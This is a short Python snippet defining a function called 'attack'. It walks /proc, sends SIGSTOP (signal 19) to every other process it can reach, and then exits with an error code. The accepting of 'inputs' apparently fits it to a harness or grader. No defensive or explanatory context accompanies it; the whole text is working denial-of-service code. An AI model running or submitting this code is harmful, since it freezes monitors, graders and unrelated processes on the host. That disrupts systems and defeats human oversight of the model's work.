import os, time

def attack(inputs):
    for pid in sorted((int(name) for name in os.listdir("/proc") if name.isdigit()), reverse=True):
        if pid != os.getpid():
            try:
                os.kill(pid, 19)
            except OSError:
                pass
    time.sleep(0.5)
    os._exit(1)
